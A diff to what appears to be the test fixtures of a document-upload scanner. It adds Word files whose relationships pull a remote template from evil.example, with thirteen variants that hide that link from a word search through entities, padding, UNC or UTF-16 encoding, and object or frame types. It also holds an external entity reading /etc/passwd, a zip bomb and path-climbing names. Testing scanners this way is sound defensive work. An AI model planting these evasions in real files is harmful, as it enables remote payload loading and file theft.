@@ -19,6 +19,23 @@ TEMPLATE = (
     b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
     b"</Relationships>"
 )
+# The same, as a search for words does not find it.
+_ADDRESS, _KIND = b"https://evil.example", b"/attachedTemplate"
+HIDDEN_TEMPLATES = {
+    "address in entities": TEMPLATE.replace(_ADDRESS, b"&#104;ttps://evil.example"),
+    "kind in entities": TEMPLATE.replace(_KIND, b"/attached&#84;emplate"),
+    "a long comment before": TEMPLATE.replace(b">", b"><!--" + b" " * 65536 + b"-->", 1),
+    "two slashes": TEMPLATE.replace(b"https:", b""),
+    "the other slashes": TEMPLATE.replace(b"https://", b"\\\\"),
+    "a share as a file": TEMPLATE.replace(b"https://", b"file:///%5C%5C"),
+    "as UTF-16": TEMPLATE.decode().encode("utf-16"),
+    "a picture": TEMPLATE.replace(_KIND, b"/image"),
+    "an object": TEMPLATE.replace(_KIND, b"/oleObject"),
+    "a frame": TEMPLATE.replace(_KIND, b"/frame"),
+    "another document": TEMPLATE.replace(_KIND, b"/subDocument"),
+    "no XML": TEMPLATE[:-1],
+    "an entity of its own": b'<!DOCTYPE r [<!ENTITY x "y">]>' + TEMPLATE,
+}
 ENTITY = (
     b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     b"<w:document>&x;</w:document>"
@@ -91,6 +108,18 @@ def refused() -> dict[str, tuple[str, bytes]]:
             "note.docx",
             document({"word/_rels/settings.xml.rels": TEMPLATE}),
         ),
+        "template in other relations": (
+            "note.docx",
+            document({"word/_rels/s2.xml.rels": TEMPLATE}),
+        ),
+        **{
+            f"template, {how}": ("note.docx", document({"word/_rels/settings.xml.rels": content}))
+            for how, content in HIDDEN_TEMPLATES.items()
+        },
+        "very many relations": (
+            "note.docx",
+            document({f"word/_rels/{n}.xml.rels": b"<r/>" + b" " * 60_000 for n in range(18)}),
+        ),
         "zip bomb": ("note.docx", claiming(document(), 150_000_000)),
         "very many entries": ("note.docx", document({f"word/{n}": b"" for n in range(2001)})),
         "old Word": ("note.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
@@ -123,6 +152,20 @@ def inert() -> dict[str, tuple[str, bytes]]:
         "picture with a page behind": ("scan.jpg", picture("JPEG") + PAGE),
         "picture with a program behind": ("scan.png.php", picture("PNG") + b"<?php ?>"),
         "entity from outside": ("note.docx", document(text=ENTITY)),
+        "template on a disk": (
+            "note.docx",
+            document(
+                {
+                    "word/_rels/settings.xml.rels": TEMPLATE.replace(
+                        b"https://evil.example/", b"file:///C:\\Users\\Ines\\"
+                    )
+                }
+            ),
+        ),
+        "link to a page": (
+            "note.docx",
+            document({"word/_rels/document.xml.rels": TEMPLATE.replace(_KIND, b"/hyperlink")}),
+        ),
         "paths that climb": ("note.docx", document({"../../../../tmp/x": b"x", "/etc/x": b"x"})),
         "name that climbs": ("../../../../etc/passwd", SMALL_PDF),
         "name of Windows": ("C:\\Windows\\system32\\a.exe", SMALL_PDF),
